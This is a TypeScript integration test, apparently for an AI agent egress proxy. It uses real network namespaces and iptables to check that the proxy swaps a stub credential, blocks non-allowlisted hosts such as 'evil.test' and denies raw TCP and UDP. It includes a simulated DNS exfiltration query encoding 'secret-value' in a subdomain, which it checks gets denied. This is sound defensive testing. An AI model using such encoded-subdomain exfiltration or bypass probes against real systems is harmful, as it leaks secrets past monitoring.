/**
 * Transparent egress end to end in real network namespaces: `agent-smith egress-init`
 * installs the real iptables/ip6tables rules in a pod namespace, the real `agent-smith
 * proxy` runs there as UID 1337, and an HTTPS upstream (test/fakes/https-upstream.ts,
 * recording every byte it receives) sits in a second namespace across a veth pair. A
 * client under UID 1000 with NO proxy environment dials the upstream's address on 443:
 * the kernel redirect carries it to the proxy, which swaps the credential stub for the
 * real value; everything else it tries reaches nothing. The same request as UID 1337
 * goes direct, which shows the redirect (not the client) carried UID 1000.
 *
 * Needs root, iproute2 (`ip netns`), util-linux `setpriv` and iptables. A machine without
 * them FAILS this file with the reason: it is never skipped.
 */
import { spawn, type ChildProcess } from 'node:child_process';
import { chmod, chown, mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { generateEgressCa } from '../../operator/src/pki/egress-ca.ts';
import { CLI, makePod, testContract, type PodFiles } from '../support/pod.ts';
import { ROOT } from '../../scripts/lib/paths.ts';

const PROXY_UID = 1337;
const AGENT_UID = 1000;
const PROXY_PORT = 15001;
const RAW_PORT = 8443;
const UDP_PORT = 5353;

const POD_V4 = '10.233.0.2';
const POD_V6 = 'fd42:233::2';
const UP_V4 = '10.233.0.1';
const UP_V6 = 'fd42:233::1';
const UP_SUBNET = '10.233.0.0/24';

const HOST = 'api.example.test';
/** A declared in-cluster Service (contract egress.inClusterHosts) and the address the cluster's DNS gives it. */
const SERVICE = 'nats.infra.svc';
const SERVICE_IP = '10.96.7.7';
/** The pod's resolver as its resolv.conf names it (a cluster DNS Service address): nothing listens there. */
const POD_RESOLVER = '10.233.0.53';
const SEARCH = 'default.svc.cluster.local svc.cluster.local cluster.local';
const EVIL = 'evil.test';
const REAL = 'sk-real-TransparentValue-0123456789abcdef';
const STUB = 'agent-smith-stub-TTTTrrrrAAAAnnnnSSSSppppAAAArrrrEEEEnnnn4242';

const SBIN_PATH = `${process.env.PATH ?? ''}:/usr/local/sbin:/usr/sbin:/sbin`;

/**
 * The upstream namespace's server (run as root there): the HTTPS fake, reached on the
 * namespace's addresses through TCP forwarders on 443 (TLS, SNI intact) and 80 (plain),
 * a raw TCP listener on RAW_PORT and a UDP listener on UDP_PORT. `dump` on stdin prints
 * what arrived.
 */
const UPSTREAM_TS = `
import net from 'node:net';
import dgram from 'node:dgram';
import readline from 'node:readline';
const [fakeUrl, names, rawPort, udpPort] = process.argv.slice(2);
const { startHttpsUpstream } = await import(fakeUrl);
const up = await startHttpsUpstream({ names: names.split(',') });
const events = [];
const clean = (a) => (a ?? '').replace(/^::ffff:/, '');
const listen = (server, port) => new Promise((resolve, reject) => {
  server.once('error', reject);
  server.listen({ host: '::', port, ipv6Only: false }, resolve);
});
const forward = (port, target) => net.createServer((c) => {
  events.push({ event: 'tcp', port, peer: clean(c.remoteAddress) });
  const u = net.connect(target, '127.0.0.1');
  c.on('error', () => u.destroy());
  u.on('error', () => c.destroy());
  c.pipe(u).pipe(c);
});
await listen(forward(443, up.httpsPort), 443);
await listen(forward(80, up.httpPort), 80);
await listen(net.createServer((c) => {
  c.on('error', () => undefined);
  events.push({ event: 'tcp', port: Number(rawPort), peer: clean(c.remoteAddress) });
  c.on('data', (d) => events.push({ event: 'data', port: Number(rawPort), data: d.toString('latin1') }));
  c.end('raw-upstream\\n');
}), Number(rawPort));
const u = dgram.createSocket({ type: 'udp6', ipv6Only: false });
u.on('message', (m, r) => events.push({ event: 'udp', port: Number(udpPort), peer: clean(r.address), data: m.toString() }));
await new Promise((resolve) => u.bind(Number(udpPort), '::', resolve));
const out = (o) => process.stdout.write(JSON.stringify(o) + '\\n');
readline.createInterface({ input: process.stdin }).on('line', (line) => {
  if (line === 'dump') out({ kind: 'dump', requests: up.requests, received: up.received.map((e) => ({ sni: e.sni ?? null, text: Buffer.concat(e.bytes).toString('latin1') })), events });
});
out({ kind: 'ready', caPem: up.caPem, uid: process.getuid() });
`;

/**
 * The agent's client (no proxy environment): argv[2] is JSON
 * {proto: 'tls'|'tcp'|'udp', host, port, servername?, ca?, payload}; one JSON line out.
 */
const CLIENT_JS = `
import net from 'node:net';
import tls from 'node:tls';
import dgram from 'node:dgram';
import { readFileSync } from 'node:fs';
const spec = JSON.parse(process.argv[2]);
const done = (o) => { process.stdout.write(JSON.stringify({ uid: process.getuid(), env: Object.keys(process.env).filter((k) => /proxy/i.test(k)), ...o }) + '\\n'); process.exit(0); };
setTimeout(() => done({ ok: false, code: 'TIMEOUT' }), 8000);
let reply = '';
if (spec.proto === 'udp') {
  const u = dgram.createSocket(net.isIPv6(spec.host) ? 'udp6' : 'udp4');
  u.send(spec.payload, spec.port, spec.host, (e) => done(e ? { ok: false, code: e.code } : { ok: true }));
} else if (spec.proto === 'tls') {
  const s = tls.connect({ host: spec.host, port: spec.port, servername: spec.servername, ca: readFileSync(spec.ca), ALPNProtocols: ['http/1.1'] }, () => {
    const issuer = s.getPeerCertificate().issuer?.CN;
    s.on('data', (d) => (reply += d.toString('latin1')));
    s.on('end', () => done({ ok: true, issuer, reply }));
    s.write(spec.payload);
  });
  s.on('error', (e) => done({ ok: false, code: e.code ?? e.message, reply }));
} else {
  const s = net.connect({ host: spec.host, port: spec.port }, () => s.write(spec.payload));
  s.on('data', (d) => (reply += d.toString('latin1')));
  s.on('end', () => done({ ok: true, reply }));
  s.on('error', (e) => done({ ok: false, code: e.code, reply }));
}
`;

/**
 * The cluster's DNS, in the upstream namespace (run as root there, UDP port 53 on every
 * address): answers A for HOST and the declared Service's cluster.local name, NXDOMAIN for
 * everything else, and prints every query name it receives as a JSON line.
 */
const DNS_JS = `
import dgram from 'node:dgram';
const [packetUrl, host, hostIp, service, serviceIp] = process.argv.slice(2);
const dnsPacket = (await import(packetUrl)).default;
const records = { [host]: hostIp, [service + '.cluster.local']: serviceIp };
const out = (o) => process.stdout.write(JSON.stringify(o) + '\\n');
const s = dgram.createSocket({ type: 'udp6', ipv6Only: false });
s.on('message', (msg, r) => {
  const q = dnsPacket.decode(msg);
  const question = q.questions[0];
  out({ kind: 'query', name: question.name.toLowerCase(), type: question.type });
  const ip = records[question.name.toLowerCase()];
  const answers = ip && question.type === 'A' ? [{ type: 'A', class: 'IN', name: question.name, ttl: 30, data: ip }] : [];
  s.send(dnsPacket.encode({ type: 'response', id: q.id, flags: (ip ? 0 : 3) | dnsPacket.RECURSION_AVAILABLE, questions: [question], answers }), r.port, r.address);
});
s.bind(53, '::', () => out({ kind: 'ready' }));
`;

interface Run {
  code: number | null;
  stdout: string;
  stderr: string;
}

function exec(cmd: string, args: string[], env: NodeJS.ProcessEnv = { ...process.env, PATH: SBIN_PATH }): Promise<Run> {
  return new Promise((resolve, reject) => {
    const proc = spawn(cmd, args, { env, stdio: ['ignore', 'pipe', 'pipe'] });
    let stdout = '';
    let stderr = '';
    proc.stdout.on('data', (d: Buffer) => (stdout += d.toString()));
    proc.stderr.on('data', (d: Buffer) => (stderr += d.toString()));
    proc.once('error', reject);
    proc.once('close', (code) => resolve({ code, stdout, stderr }));
  });
}

async function must(cmd: string, ...args: string[]): Promise<string> {
  const r = await exec(cmd, args);
  if (r.code !== 0) throw new Error(`${cmd} ${args.join(' ')} exited ${r.code}: ${r.stderr.trim() || r.stdout.trim()}`);
  return r.stdout;
}

/** `argv` run as `uid` (as it is when undefined: root). */
function asUid(uid: number | undefined, argv: string[]): string[] {
  return uid === undefined ? argv : ['setpriv', '--reuid', String(uid), '--regid', String(uid), '--clear-groups', ...argv];
}

/** `ip` arguments that run `argv` in netns `ns` as `uid` (root when undefined), as a program of `pod` when given. */
function inNs(ns: string, uid: number | undefined, argv: string[], pod?: PodFiles): string[] {
  // The pod's mounts need root: they are made first, then setpriv drops to `uid`.
  return ['netns', 'exec', ns, ...(pod ? pod.command(asUid(uid, argv)).flat() : asUid(uid, argv))];
}

function sleep(ms: number): Promise<void> {
  return new Promise((r) => setTimeout(r, ms));
}

/** A long-running child whose stdout is JSON lines (and whose stderr is kept for errors). */
interface Child {
  proc: ChildProcess;
  lines: Array<Record<string, unknown>>;
  output(): string;
  waitFor(pred: (l: Record<string, unknown>) => boolean, ms?: number): Promise<Record<string, unknown>>;
}

function startChild(args: string[], env: NodeJS.ProcessEnv, what: string): Child {
  const proc = spawn('ip', args, { env, stdio: ['pipe', 'pipe', 'pipe'] });
  const lines: Array<Record<string, unknown>> = [];
  let out = '';
  let pending = '';
  const onData = (d: Buffer) => {
    out += d.toString();
    pending += d.toString();
    let i: number;
    while ((i = pending.indexOf('\n')) >= 0) {
      const line = pending.slice(0, i);
      pending = pending.slice(i + 1);
      try {
        lines.push(JSON.parse(line) as Record<string, unknown>);
      } catch {
        lines.push({ msg: line, raw: true });
      }
    }
  };
  proc.stdout?.on('data', onData);
  proc.stderr?.on('data', onData);
  proc.stdin?.on('error', () => undefined);
  return {
    proc,
    lines,
    output: () => out,
    waitFor: async (pred, ms = 20_000) => {
      const deadline = Date.now() + ms;
      for (;;) {
        const hit = lines.find(pred);
        if (hit) return hit;
        if (proc.exitCode !== null || Date.now() > deadline) throw new Error(`${what}: no matching line within ${ms} ms (exit ${proc.exitCode}); output:\n${out}`);
        await sleep(20);
      }
    },
  };
}

interface Dump {
  requests: Array<{ sni: string | null; method: string; url: string; rawHeaders: string[] }>;
  received: Array<{ sni: string | null; text: string }>;
  events: Array<{ event: string; port: number; peer?: string; data?: string }>;
}

interface ClientResult {
  uid: number;
  env: string[];
  ok: boolean;
  code?: string;
  issuer?: string;
  reply?: string;
}

const suffix = String(process.pid % 100000);
const POD_NS = `as-tpod-${suffix}`;
const UP_NS = `as-tup-${suffix}`;
const namespaces: string[] = [];
let scratch = '';
let clientJs = '';
let upstream: Child | undefined;
let proxy: Child | undefined;
let clusterDns: Child | undefined;
/** A pod whose /etc/resolv.conf is a Kubernetes pod's: POD_RESOLVER, the search list, ndots:5. */
let agentPod: PodFiles | undefined;
const pods: PodFiles[] = [];
let agentCaFile = '';
let upstreamCaFile = '';
let initRun: Run | undefined;
let dumps = 0;

/** What the upstream namespace received so far. */
async function dump(): Promise<Dump> {
  const n = ++dumps;
  upstream!.proc.stdin!.write('dump\n');
  const seen = upstream!.lines.filter((l) => l.kind === 'dump');
  const deadline = Date.now() + 5000;
  while (seen.length < n) {
    if (Date.now() > deadline) throw new Error(`upstream did not answer dump; output:\n${upstream!.output()}`);
    await sleep(20);
    seen.splice(0, seen.length, ...upstream!.lines.filter((l) => l.kind === 'dump'));
  }
  return seen[n - 1] as unknown as Dump;
}

/** Runs the client in the pod namespace as `uid`, with only PATH in its environment. */
async function client(uid: number, spec: { proto: 'tls' | 'tcp' | 'udp'; host: string; port: number; servername?: string; ca?: string; payload: string }): Promise<ClientResult> {
  const r = await exec('ip', inNs(POD_NS, uid, [process.execPath, clientJs, JSON.stringify(spec)]), { PATH: SBIN_PATH });
  if (r.code !== 0) throw new Error(`client exited ${r.code}: ${r.stderr}`);
  return JSON.parse(r.stdout) as ClientResult;
}

const get = (host: string, path = '/echo', stub = STUB) => `GET ${path} HTTP/1.1\r\nHost: ${host}\r\nAuthorization: Bearer ${stub}\r\nConnection: close\r\n\r\n`;
const status = (reply: string | undefined) => Number(/^HTTP\/1\.1 (\d{3})/.exec(reply ?? '')?.[1]);

/** Fails (never skips) with the reason when this machine cannot run network namespace tests. */
async function preflight(): Promise<void> {
  const missing: string[] = [];
  if (process.getuid?.() !== 0) missing.push(`must run as root (uid ${process.getuid?.()}) to create network namespaces and apply iptables rules`);
  for (const tool of ['ip', 'setpriv', 'iptables-save', 'ip6tables-save']) {
    const r = await exec('sh', ['-c', `command -v ${tool}`]);
    if (r.code !== 0) missing.push(`${tool} not found (Debian packages: iproute2, util-linux, iptables)`);
  }
  if (missing.length) throw new Error(`cannot run the transparent egress netns test on this machine: ${missing.join('; ')}`);
  const probe = await exec('setpriv', ['--reuid', String(PROXY_UID), '--regid', String(PROXY_UID), '--clear-groups', process.execPath, '-e', `process.stdout.write(String(process.getuid()))`]);
  if (probe.stdout !== String(PROXY_UID)) throw new Error(`cannot run node as UID ${PROXY_UID} with setpriv (${process.execPath} must be readable by it): ${probe.stderr.trim()}`);
}

async function netns(name: string): Promise<void> {
  await must('ip', 'netns', 'add', name);
  namespaces.push(name);
  await must('ip', '-n', name, 'link', 'set', 'lo', 'up');
}

/** A pod root that UID 1337 can read (makePod's root is 0700 and owned by root). */
async function readablePod(contract: ReturnType<typeof testContract>, hosts?: Record<string, string[]>): Promise<PodFiles> {
  const pod = await makePod({ contract, hosts });
  pods.push(pod);
  await chmod(pod.root, 0o755);
  await chmod(pod.path('/tmp'), 0o1777);
  return pod;
}

beforeAll(async () => {
  await preflight();
  scratch = await mkdtemp(join(tmpdir(), 'agent-smith-transparent-'));
  await chmod(scratch, 0o755);
  clientJs = join(scratch, 'client.mjs');
  const upstreamTs = join(scratch, 'upstream.ts');
  await writeFile(clientJs, CLIENT_JS, { mode: 0o644 });
  await writeFile(upstreamTs, UPSTREAM_TS, { mode: 0o644 });

  await netns(POD_NS);
  await netns(UP_NS);
  await must('ip', '-n', POD_NS, 'link', 'add', 'eth0', 'type', 'veth', 'peer', 'name', 'eth0', 'netns', UP_NS);
  await must('ip', '-n', POD_NS, 'addr', 'add', `${POD_V4}/24`, 'dev', 'eth0');
  await must('ip', '-n', POD_NS, 'addr', 'add', `${POD_V6}/64`, 'dev', 'eth0', 'nodad');
  await must('ip', '-n', UP_NS, 'addr', 'add', `${UP_V4}/24`, 'dev', 'eth0');
  await must('ip', '-n', UP_NS, 'addr', 'add', `${UP_V6}/64`, 'dev', 'eth0', 'nodad');
  await must('ip', '-n', POD_NS, 'link', 'set', 'eth0', 'up');
  await must('ip', '-n', UP_NS, 'link', 'set', 'eth0', 'up');

  upstream = startChild(
    inNs(UP_NS, undefined, [process.execPath, upstreamTs, pathToFileURL(join(ROOT, 'test/fakes/https-upstream.ts')).href, `${HOST},${EVIL}`, String(RAW_PORT), String(UDP_PORT)]),
    { ...process.env, PATH: SBIN_PATH },
    'upstream',
  );
  const ready = await upstream.waitFor((l) => l.kind === 'ready');
  const dnsJs = join(scratch, 'dns.mjs');
  await writeFile(dnsJs, DNS_JS, { mode: 0o644 });
  clusterDns = startChild(
    inNs(UP_NS, undefined, [process.execPath, dnsJs, pathToFileURL(join(ROOT, 'node_modules/dns-packet/index.js')).href, HOST, UP_V4, SERVICE, SERVICE_IP]),
    { ...process.env, PATH: SBIN_PATH },
    'cluster DNS',
  );
  await clusterDns.waitFor((l) => l.kind === 'ready');
  upstreamCaFile = join(scratch, 'upstream-ca.pem');
  await writeFile(upstreamCaFile, String(ready.caPem), { mode: 0o644 });

  // Control: before the firewall, UID 1000 reaches the upstream's HTTPS directly on both
  // families (IPv6 may need a moment for the link and neighbour discovery).
  for (const host of [UP_V4, UP_V6]) {
    let r = await client(AGENT_UID, { proto: 'tls', host, port: 443, servername: HOST, ca: upstreamCaFile, payload: get(HOST, '/control', 'none') });
    for (let i = 0; status(r.reply) !== 200 && i < 20; i++) {
      await sleep(250);
      r = await client(AGENT_UID, { proto: 'tls', host, port: 443, servername: HOST, ca: upstreamCaFile, payload: get(HOST, '/control', 'none') });
    }
    if (status(r.reply) !== 200) throw new Error(`no path to the upstream at ${host} before egress-init: ${JSON.stringify(r)}`);
  }

  const credential = { name: 'api', hosts: [HOST], scheme: 'bearer' as const, header: 'Authorization', stub: STUB, require: false, env: [] };
  // Test-only split: egress-init and the proxy read DIFFERENT contracts. The upstream must
  // sit on a private test subnet, which the proxy's address guard refuses unless it is in
  // egress.allowCidrs; but egress-init lets every UID reach allowCidrs DIRECTLY, which would
  // let UID 1000 bypass the proxy. So egress-init gets allowCidrs [] (every TCP connection
  // but the proxy's is redirected) and only the proxy's contract opens the test subnet.
  const initPod = await readablePod(testContract({ egress: { allow: [HOST], allowCidrs: [], enforcement: 'iptables', proxyPort: PROXY_PORT, credentials: [credential] } }));
  // The proxy resolves the upstream's names from its pod's /etc/hosts.
  const proxyPod = await readablePod(
    testContract({ egress: { allow: [HOST], allowCidrs: [UP_SUBNET], enforcement: 'iptables', proxyPort: PROXY_PORT, inClusterHosts: [SERVICE], credentials: [credential] } }),
    { [HOST]: [UP_V4], [EVIL]: [UP_V4] },
  );
  // The proxy's DNS listener asks the cluster's DNS (its UID may) and knows the search list.
  await writeFile(proxyPod.path('/etc/resolv.conf'), `search ${SEARCH}\nnameserver ${UP_V4}\noptions ndots:5\n`, { mode: 0o644 });
  agentPod = await readablePod(testContract());
  await writeFile(agentPod.path('/etc/resolv.conf'), `search ${SEARCH}\nnameserver ${POD_RESOLVER}\noptions ndots:5 timeout:2 attempts:1\n`, { mode: 0o644 });

  initRun = await exec('ip', inNs(POD_NS, undefined, [process.execPath, CLI, 'egress-init'], initPod), {
    ...initPod.env,
    PATH: `${initPod.env.PATH ?? ''}:/usr/sbin:/sbin`,
    AGENT_SMITH_PROXY_UID: String(PROXY_UID),
    AGENT_SMITH_PROXY_PORT: String(PROXY_PORT),
  });
  if (initRun.code !== 0) throw new Error(`egress-init exited ${initRun.code}: ${initRun.stderr}`);

  // The proxy's files, owned as the sidecar's would be: the CA key and the credential's
  // real value readable by UID 1337 only.
  const ca = await generateEgressCa({ agent: 'default/testbot', allow: [HOST], now: new Date(), validityDays: 30 });
  const caDir = proxyPod.path('/etc/agent-smith/egress-ca');
  await mkdir(caDir, { recursive: true });
  await writeFile(join(caDir, 'ca.crt'), ca.certPem, { mode: 0o644 });
  await writeFile(join(caDir, 'ca.key'), ca.keyPem, { mode: 0o600 });
  await chown(join(caDir, 'ca.key'), PROXY_UID, PROXY_UID);
  const credDir = proxyPod.path('/etc/agent-smith/credentials');
  await mkdir(credDir, { recursive: true });
  await writeFile(join(credDir, 'api'), `${REAL}\n`, { mode: 0o600 });
  await chown(join(credDir, 'api'), PROXY_UID, PROXY_UID);
  agentCaFile = join(scratch, 'agent-ca.pem');
  await writeFile(agentCaFile, ca.certPem, { mode: 0o644 });
  const proxyUpstreamCa = proxyPod.path('/tmp/upstream-ca.pem');
  await writeFile(proxyUpstreamCa, String(ready.caPem), { mode: 0o644 });

  proxy = startChild(
    inNs(POD_NS, PROXY_UID, [process.execPath, CLI, 'proxy'], proxyPod),
    {
      ...proxyPod.env,
      AGENT_SMITH_PROXY_PORT: String(PROXY_PORT),
      AGENT_SMITH_PROXY_HEALTH_PORT: '0',
      AGENT_SMITH_UPSTREAM_CA: proxyUpstreamCa,
      LOG_LEVEL: 'debug',
    },
    'proxy',
  );
  await proxy.waitFor((l) => l.msg === 'egress proxy ready');
}, 90_000);

afterAll(async () => {
  for (const c of [proxy, upstream, clusterDns]) {
    if (c && c.proc.exitCode === null && c.proc.signalCode === null) {
      const exited = new Promise((r) => c.proc.once('exit', r));
      c.proc.kill('SIGKILL');
      await Promise.race([exited, sleep(3000)]);
    }
  }
  for (const ns of namespaces) {
    const r = await exec('ip', ['netns', 'del', ns]);
    if (r.code !== 0) process.stderr.write(`could not delete netns ${ns}: ${r.stderr}\n`);
  }
  for (const p of pods) await p.cleanup();
  if (scratch) await rm(scratch, { recursive: true, force: true });
});

describe('transparent egress: egress-init rules + the real proxy in a pod network namespace', () => {
  const audits = () => proxy!.lines.filter((l) => l.audit === true);

  it('egress-init installed the redirect for every UID but the proxy, with no allowCidrs', () => {
    expect(initRun?.stderr).toContain('egress firewall installed');
    expect(initRun?.stderr).toMatch(/"allowCidrs":\{"ipv4":\[\],"ipv6":\[\]\}/);
  });

  it.each([
    ['IPv4', UP_V4],
    ['IPv6', UP_V6],
  ])('UID 1000 with no proxy environment reaches %s:443 only through the proxy, and its stub is swapped', async (family, host) => {
    const before = (await dump()).requests.length;
    // Any path but the fake's special ones echoes what arrived.
    const path = `/echo-${family}`;
    const r = await client(AGENT_UID, { proto: 'tls', host, port: 443, servername: HOST, ca: agentCaFile, payload: get(HOST, path) });
    expect(r.env).toEqual([]);
    expect(r.ok, JSON.stringify(r)).toBe(true);
    expect(status(r.reply)).toBe(200);
    // The certificate the client accepted was minted by the per-agent egress CA: the proxy answered.
    expect(r.issuer).toBe('agent-smith egress CA default/testbot');
    // The upstream got the request with the REAL value, never the stub.
    const d = await dump();
    const req = d.requests.slice(before).find((q) => q.url === path);
    expect(req?.sni).toBe(HOST);
    expect(req?.rawHeaders).toContain(`Bearer ${REAL}`);
    expect(d.received.map((e) => e.text).join('\n')).not.toContain(STUB);
    // The echo carried the real value back; the proxy scrubbed it before the client saw it.
    expect(r.reply).not.toContain(REAL);
    const a = await proxy!.waitFor((l) => l.audit === true && l.path === path, 5000);
    expect(a).toMatchObject({ mode: 'transparent', host: HOST, port: 443, decision: 'allow', credential: 'api', status: 200 });
    expect(proxy!.output()).not.toContain(REAL);
  });

  it('UID 1000 cannot reach a host outside the allowlist (SNI evil.test): refused by the proxy, the upstream sees nothing', async () => {
    const before = await dump();
    const r = await client(AGENT_UID, { proto: 'tls', host: UP_V4, port: 443, servername: EVIL, ca: upstreamCaFile, payload: get(EVIL, '/echo', 'evil') });
    expect(r.ok, JSON.stringify(r)).toBe(false);
    await proxy!.waitFor((l) => l.audit === true && l.host === EVIL && l.decision === 'deny', 5000);
    // Plain HTTP to port 80 with Host: evil.test is refused with 403 as well.
    const plain = await client(AGENT_UID, { proto: 'tcp', host: UP_V4, port: 80, payload: `GET /echo HTTP/1.1\r\nHost: ${EVIL}\r\nConnection: close\r\n\r\n` });
    expect(status(plain.reply), JSON.stringify(plain)).toBe(403);
    await sleep(200);
    const after = await dump();
    expect(after.requests.length).toBe(before.requests.length);
    expect(after.received.filter((e) => e.sni === EVIL)).toEqual([]);
    expect(after.events.length).toBe(before.events.length);
  });

  it('UID 1000 cannot reach another port directly: the proxy answers, the raw listener sees no connection', async () => {
    const before = await dump();
    const r = await client(AGENT_UID, { proto: 'tcp', host: UP_V4, port: RAW_PORT, payload: 'raw-from-agent\r\n\r\n' });
    // The proxy answered instead (it parses the bytes as HTTP and refuses them).
    expect(r.reply ?? '').not.toContain('raw-upstream');
    expect(r.reply, JSON.stringify(r)).toMatch(/^HTTP\/1\.1 400 [^]*X-Agent-Smith-Deny: bad_request/);
    await sleep(200);
    const after = await dump();
    expect(after.events.filter((e) => e.port === RAW_PORT).length).toBe(before.events.filter((e) => e.port === RAW_PORT).length);
  });

  it.each([UP_V4, UP_V6])('UDP of UID 1000 to %s is dropped (EPERM), the upstream sees nothing', async (host) => {
    const payload = `udp-agent-${host}`;
    expect(await client(AGENT_UID, { proto: 'udp', host, port: UDP_PORT, payload })).toMatchObject({ ok: false, code: 'EPERM' });
    await sleep(200);
    expect((await dump()).events.some((e) => e.data === payload)).toBe(false);
  });

  describe("DNS: the pod's resolver is the proxy", () => {
    /** `getent ahostsv4 name` as UID 1000 with a Kubernetes pod's resolv.conf (glibc: search list, ndots:5). */
    const getent = (name: string) => exec('ip', inNs(POD_NS, AGENT_UID, ['getent', 'ahostsv4', name], agentPod), { PATH: SBIN_PATH });
    const asked = () => clusterDns!.lines.filter((l) => l.kind === 'query').map((l) => String(l.name));

    it('UID 1000 resolves an allowed name through the pod resolver: the proxy asks the cluster DNS for the name alone, never its search expansions', async () => {
      const r = await getent(HOST);
      expect(r.code, r.stderr).toBe(0);
      expect(r.stdout).toContain(UP_V4);
      expect(asked()).toContain(HOST);
      expect(asked().filter((n) => n.startsWith(`${HOST}.`))).toEqual([]);
    });

    it('UID 1000 resolves a declared in-cluster Service by its short name (search list) to its cluster IP', async () => {
      const r = await getent(SERVICE);
      expect(r.code, r.stderr).toBe(0);
      expect(r.stdout).toContain(SERVICE_IP);
      expect(asked()).toContain(`${SERVICE}.cluster.local`);
    });

    it('UID 1000 gets NXDOMAIN for a name outside the allowlist, the cluster DNS never sees it, and the proxy writes one audit line', async () => {
      const name = 'c2VjcmV0LXZhbHVl.exfil.example';
      const r = await getent(name);
      // getent: 2 = the name was not found (NXDOMAIN, not a timeout, which glibc reports alike but slowly).
      expect(r.code).toBe(2);
      expect(asked().filter((n) => n.includes('exfil'))).toEqual([]);
      const line = await proxy!.waitFor((l) => l.audit === true && l.mode === 'dns', 5000);
      expect(line).toMatchObject({ host: name.toLowerCase(), decision: 'deny', reason: 'not_allowed' });
      expect(audits().filter((l) => l.mode === 'dns')).toHaveLength(1);
    });
  });

  it('the same request as the proxy UID 1337 goes direct: the upstream certificate, the stub unswapped, no proxy audit', async () => {
    const path = '/echo-as-1337';
    const auditsBefore = audits().length;
    // Trusting only the per-agent CA fails: it is the upstream's own certificate, not a minted one.
    const viaAgentCa = await client(PROXY_UID, { proto: 'tls', host: UP_V4, port: 443, servername: HOST, ca: agentCaFile, payload: get(HOST, path) });
    expect(viaAgentCa.ok, JSON.stringify(viaAgentCa)).toBe(false);
    const r = await client(PROXY_UID, { proto: 'tls', host: UP_V4, port: 443, servername: HOST, ca: upstreamCaFile, payload: get(HOST, path) });
    expect(status(r.reply), JSON.stringify(r)).toBe(200);
    expect(r.issuer).toBe('agent-smith test upstream CA');
    const req = (await dump()).requests.find((q) => q.url === path);
    expect(req?.rawHeaders).toContain(`Bearer ${STUB}`);
    expect(req?.rawHeaders.join('\n')).not.toContain(REAL);
    // And the raw port answers UID 1337 directly.
    expect(await client(PROXY_UID, { proto: 'tcp', host: UP_V4, port: RAW_PORT, payload: 'raw-from-proxy-uid' })).toMatchObject({ ok: true, reply: 'raw-upstream\n' });
    await sleep(200);
    expect(audits().length).toBe(auditsBefore);
  });
});
